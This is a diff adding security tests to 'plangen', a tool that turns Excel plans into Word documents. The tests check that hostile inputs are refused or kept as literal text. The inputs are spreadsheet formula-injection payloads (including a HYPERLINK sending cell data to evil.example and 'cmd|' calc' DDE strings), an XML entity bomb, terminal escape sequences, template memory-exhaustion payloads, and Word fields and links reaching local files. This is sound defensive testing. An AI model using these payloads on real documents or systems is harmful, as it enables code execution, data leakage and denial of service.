@@ -22,9 +22,11 @@ import corpus
 import pytest
 from click.testing import CliRunner, Result
 from docx import Document
+from openpyxl import load_workbook
 
 from plangen import load
 from plangen.cli import cli
+from plangen.safetext import FORMULA_STARTS
 
 SLOW_SECONDS = 10
 
@@ -333,6 +335,28 @@ def test_control_characters_in_the_sheet_xml_are_stripped(tmp_path: Path):
     assert "bell here" in build_ok(path, tmp_path / "out")
 
 
+def test_text_aimed_at_the_charts_stays_text(tmp_path: Path):
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from plangen.pipeline import build
+
+    docx = build(corpus.chart_bait(tmp_path), tmp_path / "out").docx
+    level = '=HYPERLINK("http://x","R&D <b>")'
+    with zipfile.ZipFile(docx) as archive:
+        names = archive.namelist()
+        body = archive.read("word/document.xml").decode()
+        book = archive.read("word/embeddings/Microsoft_Excel_Worksheet2.xlsx")
+        bars = archive.read("word/charts/chart2.xml").decode()
+    assert len([n for n in names if n.startswith("word/charts/chart")]) == 3
+    assert "[plangen-chart by_goal 0123456789abcdef]" in body
+    cell = load_workbook(io.BytesIO(book))["Sheet1"]["A2"]
+    assert (cell.value, cell.data_type) == (f"{level} (60%)", "s")
+    assert "R&amp;D &lt;b&gt;" in bars
+
+
 # ------------------------------------------------------------------ output
 
 
@@ -435,6 +459,496 @@ def test_batch_names_every_bad_workbook_and_builds_the_good_one(tmp_path: Path):
 def test_huge_number_in_a_date_cell_names_the_sheet(tmp_path: Path):
     path = corpus.set_cells(tmp_path, {"Supports!E4": -1e15})
     check_refused(path, tmp_path, 'sheet "Supports" could not be read')
+
+
+# ------------------------------------------------------------------ plan documents (pull)
+
+
+def _built_plan(tmp_path: Path) -> tuple[Path, Path]:
+    workbook = corpus.copy_example(tmp_path, "plan.xlsx")
+    result = CliRunner().invoke(cli, ["build", str(workbook), "-o", str(tmp_path / "out")])
+    assert result.exit_code == 0, result.output
+    return workbook, tmp_path / "out" / "plan.docx"
+
+
+def test_a_formula_typed_in_word_is_pulled_as_text(tmp_path: Path) -> None:
+    from wordedit import WordEdit
+
+    workbook, docx = _built_plan(tmp_path)
+    edit = WordEdit(docx)
+    edit.type_text("reviews|6|adjustments", '=HYPERLINK("http://evil.example","x")')
+    edit.save()
+    assert CliRunner().invoke(cli, ["pull", str(docx), str(workbook)]).exit_code == 0
+    cell = load_workbook(workbook)["Reviews"]["G6"]
+    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://evil.example","x")', "s")
+
+
+@pytest.mark.parametrize(
+    ("make", "phrase"),
+    [
+        (lambda p: p.write_bytes(os.urandom(2048)), "is not a Word .docx document"),
+        (lambda p: p.write_bytes(b""), "is not a Word .docx document"),
+        (
+            lambda p: _rewrite_part(
+                p,
+                "word/document.xml",
+                b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
+                b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>',
+            ),
+            "declares entities; refused unread",
+        ),
+        (
+            lambda p: _rewrite_part(
+                p,
+                _plangen_item(p),
+                b'<plangen xmlns="urn:plangen:plan:1"><record>{not json</record></plangen>',
+            ),
+            "holds no plangen record",
+        ),
+        (
+            lambda p: _rewrite_part(
+                p,
+                _plangen_item(p),
+                b'<plangen xmlns="urn:plangen:plan:1"><record>{"kind": "system", "district": '
+                b'"x", "plan_id": "system:x", "workbook": "plan.xlsx", "built": "", '
+                b'"fingerprint": "", "values": {"supports|4": {"row": "4"}}}</record></plangen>',
+            ),
+            "holds no plangen record",
+        ),
+    ],
+    ids=["random-bytes", "empty", "entities", "forged-record", "forged-entries"],
+)
+def test_hostile_plan_documents_are_refused_and_never_replaced(
+    make: Any, phrase: str, tmp_path: Path
+) -> None:
+    workbook, docx = _built_plan(tmp_path)
+    make(docx)
+    before_doc, before_book = corpus.digest(docx), corpus.digest(workbook)
+    pulled = CliRunner().invoke(cli, ["pull", str(docx), str(workbook)])
+    assert pulled.exit_code == 1
+    assert phrase in pulled.output
+    assert "Traceback" not in pulled.output
+    rebuilt = CliRunner().invoke(cli, ["build", str(workbook), "-o", str(docx.parent)])
+    assert rebuilt.exit_code == 1
+    assert "not replaced" in rebuilt.output
+    assert (corpus.digest(docx), corpus.digest(workbook)) == (before_doc, before_book)
+
+
+def _rewrite_part(docx: Path, name: str, data: bytes) -> None:
+    with zipfile.ZipFile(docx) as archive:
+        entries = [(i, archive.read(i.filename)) for i in archive.infolist()]
+    with zipfile.ZipFile(docx, "w") as out:
+        for info, old in entries:
+            out.writestr(info, data if info.filename == name else old)
+
+
+def _plangen_item(docx: Path) -> str:
+    """The name of the custom XML part holding plangen's record."""
+    with zipfile.ZipFile(docx) as archive:
+        return next(
+            n for n in archive.namelist()
+            if n.startswith("customXml/item") and b"urn:plangen:plan" in archive.read(n)
+        )
+
+
+# ------------------------------------------------------------------ spreadsheets written (#12)
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+1",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_batch_summary_holds_typed_formulas_as_text(tmp_path: Path):
+    import csv
+
+    from openpyxl import load_workbook
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    for i, typed in enumerate(FORMULAS):
+        corpus.set_texts(folder, {"Plan!B4": typed}, f"d{i}.xlsx")
+    corpus.copy_example(folder, "=1+1.xlsx")
+    corpus.set_texts(folder, {"Supports!D4": "=1+1"}, "bad.xlsx")
+    before = corpus.digest(folder)
+    out = tmp_path / "out"
+    invoke("batch", folder, "-o", out, "-j", "1")
+    assert corpus.digest(folder) == before
+    with zipfile.ZipFile(out / "summary.xlsx") as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    sheet = load_workbook(out / "summary.xlsx")["Summary"]
+    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    for i, typed in enumerate(FORMULAS):
+        district = rows[f"d{i}.xlsx"][1]
+        assert (district.value, district.data_type) == (typed.strip("\t\r"), "s") or (
+            district.value == typed and district.data_type == "s"
+        )
+    assert rows["=1+1.xlsx"][0].data_type == "s"
+    percent = rows["d0.xlsx"][7]
+    assert (percent.value, percent.data_type) == (50, "n")
+    with (out / "summary.csv").open(encoding="utf-8-sig", newline="") as fh:
+        table = {row[0]: row for row in csv.reader(fh)}
+    for i in range(len(FORMULAS)):
+        district = table[f"d{i}.xlsx"][1]
+        assert district.startswith("'") and district[1:] in FORMULAS + [
+            f.strip("\t\r") for f in FORMULAS
+        ]
+    assert "'=1+1.xlsx" in table
+    assert table["d0.xlsx"][7] == "50"
+    assert not table["bad.xlsx"][12].startswith(FORMULA_STARTS)
+
+
+def test_blank_and_example_workbooks_hold_no_formula(tmp_path: Path):
+    for args in (["system"], ["district"], ["system", "--example"]):
+        path = tmp_path / f"{'_'.join(args)}.xlsx"
+        assert invoke("new", args[0], path, *args[1:]).exit_code == 0
+        with zipfile.ZipFile(path) as archive:
+            for name in archive.namelist():
+                if name.startswith("xl/worksheets/"):
+                    assert b"<f>" not in archive.read(name), (path, name)
+
+
+# ------------------------------------------------------------------ terminal (#12)
+
+MARKUP = ["Foo [/bold] bar", "Done [/]", "[link=https://evil.example]x[/link]", "[red]x"]
+
+
+@pytest.mark.parametrize("typed", MARKUP)
+def test_status_prints_workbook_text_literally(typed: str, tmp_path: Path):
+    path = corpus.set_texts(tmp_path, {"Plan!B4": typed, "Supports!A4": typed})
+    result = invoke("status", path)
+    assert result.exit_code == 0, result.output
+    assert result.output.splitlines()[0] == (
+        f"{typed}: 13/26 coaching supports completed (50%), as of 2023-02-15"
+    )
+
+
+def test_batch_failure_table_survives_markup_and_escape_sequences(tmp_path: Path):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    corpus.set_texts(folder, {"Supports!D4": "Done [/]"}, "done.xlsx")
+    corpus.set_texts(folder, {"Supports!D4": "[link=https://evil.example]x[/link]"}, "l.xlsx")
+    corpus.copy_example(folder, "red\x1b[31m\x1b]8;;evil.example\x07here\x1b]8;;\x07.xlsx")
+    result = invoke("batch", folder, "-o", tmp_path / "out", "-j", "1")
+    assert result.exit_code == 1, result.output
+    assert "Plans not built" in result.output
+    assert "3 workbooks: 1 built, 0 skipped (unchanged), 2 invalid, 0 failed" in result.output
+    assert 'got "Done [/]"' in result.output
+    assert "[link=https://evil.example]x[/link]" in result.output
+    assert "redhere.xlsx" in result.output
+    assert "\x1b" not in result.output and "\x07" not in result.output
+
+
+def test_error_lines_strip_control_sequences_from_file_names(tmp_path: Path):
+    path = tmp_path / "a\x1b]8;;evil.example\x07b\x9b31m.xlsx"
+    path.write_bytes(b"")
+    result = invoke("validate", path)
+    assert result.exit_code == 1
+    assert result.output.splitlines() == [f"error: {tmp_path}/ab31m.xlsx: the file is empty"]
+
+
+def test_for_terminal_strips_every_kind_of_control():
+    from plangen.safetext import for_terminal
+
+    hostile = "a\x1b[2Jb\x1b]8;;http://e\x1b\\c\x07d\x9b1me\x00f\u202eg\x7fh\ti\nj"
+    assert for_terminal(hostile) == "abcd1mefgh\ti\nj"
+
+
+# ------------------------------------------------------------------ text stays literal (#12)
+
+
+def test_docxtpl_marks_typed_in_a_cell_come_out_literally(tmp_path: Path):
+    typed = "a {_{ b }_} c {_% if x %_} {# note #} {%_ y _%} __init__ {{_}}"
+    path = corpus.set_texts(tmp_path, {"Observations!A4": typed, "Plan!B4": "{_{ d }_}"})
+    text = build_ok(path, tmp_path / "out")
+    assert typed in text
+    assert "{_{ d }_}" in text
+
+
+# ------------------------------------------------------------------ templates (#12)
+
+SANDBOX = [
+    ("{{ [1]|slice(1000000000000)|max }}", "slice() takes numbers up to 10,000"),
+    ("{{ [1]|slice(1000000000)|list|length }}", "slice() takes numbers up to 10,000"),
+    ("{{ [1]|batch(1000000000)|list|length }}", "batch() takes numbers up to 10,000"),
+    ("{{ [[1]]|tojson(indent=100000000) }}", "tojson() takes numbers up to 8"),
+    (
+        "{% set big = 'x' * 999999 %}{{ range(1000)|map('replace', '1', big)|join }}",
+        "map() builds more than 10,000 items or 1,000,000 characters",
+    ),
+    (
+        "{% set big = 'x' * 999999 %}{{ range(1000)|map('replace', '1', big)|map('string')"
+        "|select|list|length }}",
+        "builds more than 10,000 items or 1,000,000 characters",
+    ),
+    (
+        "{% set ns = namespace(l=[]) %}{% for i in range(1000) %}"
+        "{% set ns.l = ns.l + [('x' * 999999) ~ i] %}{% endfor %}{{ ns.l|join }}",
+        "builds a value larger than 1,000,000 characters",
+    ),
+    ("{{ ('x' * 999999)|replace('x', 'yy') }}", "replace() would build more than 1,000,000"),
+    ("{{ range(10000)|map('string')|list|sum(start=[])|length }}", "could not be rendered"),
+    ("{{ 'x'|truncate(10 ** 9) }}", "truncate() takes numbers up to 1,000,000"),
+    (
+        "{{ range(10000)|map('string')|map('list')|list|sum(start=[])|length }}",
+        "builds a list longer than 10,000",
+    ),
+]
+
+
+@pytest.mark.parametrize(("source", "phrase"), SANDBOX, ids=[s[:40] for s, _ in SANDBOX])
+def test_template_caps_hold_while_compiling_and_through_generators(
+    source: str, phrase: str, tmp_path: Path, system_example: Path
+):
+    template = corpus.template_with(tmp_path, "Plan for {{ district }}", source)
+    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    out = tmp_path / "out"
+    for args in (
+        ["build", system_example, "-o", out, "--template", template],
+        ["template", "check", template, "--kind", "system"],
+    ):
+        result = invoke(*args)
+        assert result.exit_code == 1, result.output
+        assert result.output.startswith(f"error: {template}: "), result.output
+        assert phrase in result.output
+    assert not out.exists()
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 300_000
+
+
+def test_a_template_with_a_huge_part_is_refused_unread(tmp_path: Path, system_example: Path):
+    template = corpus.template_with_huge_footer(tmp_path)
+    assert template.stat().st_size < 200_000
+    started = time.monotonic()
+    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
+    assert result.exit_code == 1
+    assert result.output.splitlines() == [
+        f"error: {template}: part word/footer9.xml would unpack to 31 MB, more than the "
+        "20 MB a template part may be; refused unread"
+    ]
+    assert time.monotonic() - started < 2
+    assert not (tmp_path / "out").exists()
+
+
+def _reaching_templates() -> list[tuple[Callable[[Path], Path], str]]:
+    cases: list[tuple[Callable[[Path], Path], str]] = [
+        (
+            lambda d: corpus.template_linking_image(d, "file:///etc/hostname"),
+            'the image relationship points outside the document: "file:///etc/hostname"',
+        ),
+        (
+            lambda d: corpus.template_linking_image(d, "http://evil.example/x.png"),
+            "an image is linked from outside instead of held in it (r:link)",
+        ),
+        (
+            lambda d: corpus.template_with_relationship(
+                d, "attachedTemplate", "file:///srv/evil.dotm", True
+            ),
+            'the attachedTemplate relationship points outside the document: "file:///srv/evil',
+        ),
+        (
+            lambda d: corpus.template_with_relationship(
+                d, "hyperlink", "file:///etc/hostname", True
+            ),
+            'the hyperlink relationship points outside the document: "file:///etc/hostname"',
+        ),
+        (
+            lambda d: corpus.template_with_relationship(d, "aFChunk", "chunk.mht", False),
+            "an alternative-format chunk imports another document's content",
+        ),
+        (
+            lambda d: corpus.template_with_vml_picture(d, "http://evil.example/x.png"),
+            'points at "http://evil.example/x.png" outside the document',
+        ),
+        (
+            lambda d: corpus.template_with_vml_picture(d, "\\\\server\\share\\x.png"),
+            'points at "\\\\server\\share\\x.png" outside the document',
+        ),
+        (
+            lambda d: corpus.reencoded(
+                corpus.template_linking_image(d, "file:///etc/hostname"),
+                "word/_rels/document.xml.rels",
+            ),
+            'the image relationship points outside the document: "file:///etc/hostname"',
+        ),
+    ]
+    for field in ("INCLUDETEXT", "INCLUDEPICTURE", "DDE", "DDEAUTO", "LINK", "includetext"):
+        for simple in (True, False):
+            cases.append(
+                (
+                    lambda d, f=field, s=simple: corpus.template_with_field(
+                        d, f"{f} &quot;file:///etc/hostname&quot; \\d", s
+                    ),
+                    f"the {field.upper()} field reaches outside the document",
+                )
+            )
+    return cases
+
+
+REACHING = _reaching_templates()
+
+
+REACHING_IDS = [
+    "file-image",
+    "http-image",
+    "attached-template",
+    "file-hyperlink",
+    "altChunk",
+    "vml-http",
+    "vml-unc",
+    "utf16-rels",
+] + [
+    f"{field}-{kind}"
+    for field in ("INCLUDETEXT", "INCLUDEPICTURE", "DDE", "DDEAUTO", "LINK", "includetext")
+    for kind in ("fldSimple", "complex")
+]
+
+
+@pytest.mark.parametrize(("builder", "phrase"), REACHING, ids=REACHING_IDS)
+def test_templates_reaching_outside_are_refused(
+    builder: Callable[[Path], Path], phrase: str, tmp_path: Path, system_example: Path
+):
+    template = builder(tmp_path)
+    before = corpus.digest(template)
+    checked = invoke("template", "check", template, "--kind", "system")
+    assert checked.exit_code == 1
+    assert any(
+        line.startswith(f"error: {template}: word/") and phrase in line
+        for line in checked.output.splitlines()
+    ), checked.output
+    built = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
+    assert built.exit_code == 1
+    assert phrase in built.output
+    assert not (tmp_path / "out").exists()
+    assert corpus.digest(template) == before
+
+
+def test_a_field_the_template_builds_while_rendering_is_refused(
+    tmp_path: Path, system_example: Path
+):
+    made = (
+        '{{ \'</w:t></w:r><w:fldSimple w:instr="INCLUDEPICTURE file:///etc/x.png"/>'
+        "<w:r><w:t>'|safe }}"
+    )
+    template = corpus.template_with(tmp_path, "Plan for {{ district }}", made)
+    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
+    assert result.exit_code == 1
+    assert result.output.splitlines()[0] == (
+        f"error: {template}: word/document.xml: the INCLUDEPICTURE field reaches outside "
+        'the document: "INCLUDEPICTURE file:///etc/x.png"'
+    )
+    assert list((tmp_path / "out").glob("*")) == []
+    checked = invoke("template", "check", template, "--kind", "system")
+    assert checked.exit_code == 1
+    lines = checked.output.splitlines()
+    assert lines and all(line.startswith(f"error: {template}: word/") for line in lines), lines
+    assert "the INCLUDEPICTURE field reaches outside the document" in checked.output
+
+
+def test_a_web_hyperlink_in_a_template_is_allowed(tmp_path: Path, system_example: Path):
+    from docx import Document
+    from docx.opc.constants import RELATIONSHIP_TYPE as RT
+    from docx.oxml import parse_xml
+
+    doc = Document()
+    paragraph = doc.add_paragraph("Plan for {{ district }} ")
+    rid = doc.part.relate_to("https://www.example.org/csdp", RT.HYPERLINK, is_external=True)
+    paragraph._p.append(
+        parse_xml(
+            '<w:hyperlink xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+            ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+            f' r:id="{rid}"><w:r><w:t>guide</w:t></w:r></w:hyperlink>'
+        )
+    )
+    template = tmp_path / "linked.docx"
+    doc.save(str(template))
+    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
+    assert result.exit_code == 0, result.output
+
+
+def _pictures(pdf: Path) -> list[bytes]:
+    from pypdf import PdfReader
+
+    found = []
+    for page in PdfReader(pdf).pages:
+        for ref in (page["/Resources"].get("/XObject") or {}).values():
+            found.append(ref.get_object().get_data())
+    return found
+
+
+def test_a_linked_local_picture_never_reaches_the_pdf(tmp_path: Path, system_example: Path):
+    from plangen.errors import ConversionError
+    from plangen.pdf import to_pdf
+
+    secret = corpus.secret_picture(tmp_path)
+    template = corpus.template_linking_image(tmp_path, secret.as_uri())
+    red = b"\xff\x00\x00" * 64 * 64
+    raw = tmp_path / "raw" / "linked.docx"
+    raw.parent.mkdir()
+    raw.write_bytes(template.read_bytes())
+    try:  # LibreOffice itself does embed the linked local file
+        assert red in _pictures(to_pdf(raw))
+    except ConversionError:
+        pytest.skip("LibreOffice is not installed")
+    out = tmp_path / "out"
+    result = CliRunner().invoke(
+        cli, ["build", str(system_example), "-o", str(out), "--template", str(template), "--pdf"]
+    )
+    assert result.exit_code == 1
+    assert "points outside the document" in result.output
+    assert not out.exists()
+
+
+def test_the_time_limit_alone_stops_a_constant_folded_at_compile_time(
+    tmp_path: Path, system_example: Path, monkeypatch: pytest.MonkeyPatch
+):
+    """With the filter caps switched off, the time limit still stops jinja folding
+    `[1]|slice(10**12)|max` while compiling (before the fix it ran forever)."""
+    from plangen import sandbox
+
+    monkeypatch.setenv("PLANGEN_RENDER_SECONDS", "1")
+    monkeypatch.setattr(sandbox, "_capped_filter", lambda name, original: original)
+    template = corpus.template_with(tmp_path, "{{ [1]|slice(1000000000000)|max }}")
+    started = time.monotonic()
+    result = invoke("template", "check", template, "--kind", "system")
+    assert result.exit_code == 1, result.output
+    assert result.output.splitlines() == [
+        f"error: {template}: the template did not finish within 1 seconds "
+        "(an endless loop or a recursive macro?)"
+    ]
+    assert time.monotonic() - started < 3
+
+
+def test_memory_backstop_stops_a_template_keeping_many_big_values(
+    tmp_path: Path, system_example: Path, monkeypatch: pytest.MonkeyPatch
+):
+    """Each value is under the caps; together they pass the memory limit (made 64 MB here
+    to keep the test light; 512 MB in use)."""
+    from plangen import sandbox
+
+    monkeypatch.setattr(sandbox, "MAX_MEMORY", 64 * 2**20)
+    kept = "".join(f"{{% set v{i} = ('x' * 999000) ~ {i} %}}" for i in range(200))
+    template = corpus.template_with(tmp_path, kept + "{{ v1|length }}")
+    result = invoke("build", system_example, "-o", tmp_path / "out", "--template", template)
+    assert result.exit_code == 1
+    assert result.output.splitlines() == [
+        f"error: {template}: the template used more than 64 MB of memory while rendering; refused"
+    ]
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_template_with_too_much_text_xml_is_refused_unread(tmp_path: Path, system_example: Path):
+    template = corpus.template_with_huge_footer(tmp_path, size=4 * 1024 * 1024, count=3)
+    result = invoke("template", "check", template, "--kind", "system")
+    assert result.exit_code == 1
+    assert result.output.splitlines() == [
+        f"error: {template}: its text (body, headers, footers, notes) would unpack to 13 MB "
+        "of XML, more than the 10 MB plangen renders; refused unread"
+    ]
 
 
 # ------------------------------------------------------------------ hardening (issue 12)
@@ -784,3 +1298,22 @@ def test_a_batch_refuses_a_huge_file_without_reading_it(tmp_path: Path):
     assert "2 workbooks: 1 built, 0 skipped (unchanged), 0 invalid, 1 failed" in result.output
     summary = (tmp_path / "out" / "summary.csv").read_text("utf-8")
     assert "is 5,000 MB, more than the 200 MB plangen reads" in summary
+
+
+def test_a_pipe_named_like_a_template_is_refused_without_waiting(
+    tmp_path: Path, system_example: Path
+) -> None:
+    pipe = tmp_path / "pipe.docx"
+    os.mkfifo(pipe)
+    out = tmp_path / "out"
+    for args in (
+        ["build", system_example, "-o", out, "--template", pipe],
+        ["template", "check", pipe, "--kind", "system"],
+    ):
+        result = invoke(*args)
+        assert result.exit_code == 1, result.output
+        assert result.output.splitlines()[-1] == (
+            f"error: {pipe}: is not a regular file (a folder, pipe, device or socket); "
+            "refused unread"
+        )
+    assert not out.exists()
